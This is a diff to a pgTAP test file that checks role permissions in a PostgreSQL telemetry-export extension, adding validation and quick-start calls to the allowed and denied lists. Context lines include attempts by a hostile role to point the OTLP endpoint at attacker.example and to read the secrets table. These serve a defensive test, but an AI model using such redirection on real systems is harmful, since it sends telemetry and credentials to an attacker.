@@ -1,7 +1,7 @@
 -- Who configures, who grants, and whose code runs meanwhile.
 \set ON_ERROR_STOP on
 SET client_min_messages = error;
-SELECT plan(62);
+SELECT plan(71);
 
 CREATE ROLE roles_admin;
 CREATE ROLE roles_hostile;
@@ -25,6 +25,9 @@ SELECT lives_ok(call, 'who may configure may: ' || call) FROM unnest(ARRAY[
 	$$SELECT genops_pause_delivery()$$,
 	$$SELECT genops_resume_delivery()$$,
 	$$SELECT genops_resend('2000-01-01')$$,
+	$$SELECT genops_validate(check_connectivity => false, check_write => false, check_read => false, check_traceql => false)$$,
+	$$SELECT genops_validation_report(check_connectivity => false, check_write => false, check_read => false, check_traceql => false)$$,
+	$$SELECT genops_quick_start()$$,
 	$$SELECT * FROM genops.stat_recording$$]) call;
 SELECT is(value, '***', 'sees headers masked') FROM genops.configuration WHERE setting = 'headers.authorization';
 SELECT is(tenant_id, 'acme' COLLATE "C", 'and how far delivery is') FROM genops.stat_delivery;
@@ -48,6 +51,7 @@ FROM unnest(ARRAY['roles_hostile', 'roles_reader']) who, unnest(ARRAY[
 	$$SELECT genops_configure(otlp_endpoint => 'http://attacker.example:4318')$$, $$SELECT genops_reset('all')$$,
 	$$SELECT genops_route_headers('r', '{}')$$, $$INSERT INTO genops.route (name, otlp_endpoint) VALUES ('r', 'http://attacker.example')$$,
 	$$SELECT genops_pause_delivery()$$, $$SELECT genops_resume_delivery()$$, $$SELECT genops_resend('2000-01-01')$$,
+	$$SELECT genops_validate()$$, $$SELECT genops_validation_report()$$, $$SELECT genops_quick_start()$$,
 	$$SELECT * FROM genops.secret$$, $$SELECT genops.wake_worker()$$, $$SELECT genops_grant('roles_hostile', 'configure')$$,
 	$$CREATE TABLE genops.mine ()$$]) call;
 
